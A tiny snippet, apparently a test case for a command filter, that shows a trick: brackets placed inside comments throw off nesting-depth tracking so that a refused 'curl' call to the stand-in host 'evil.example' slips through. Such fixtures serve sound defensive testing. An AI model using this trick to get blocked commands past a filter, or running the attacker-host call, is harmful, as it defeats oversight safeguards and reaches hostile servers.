# Trick: brackets in comments hide how deeply the text nests.
# Refused: run(curl)
( #)
( #)
curl http://evil.example/
)
)
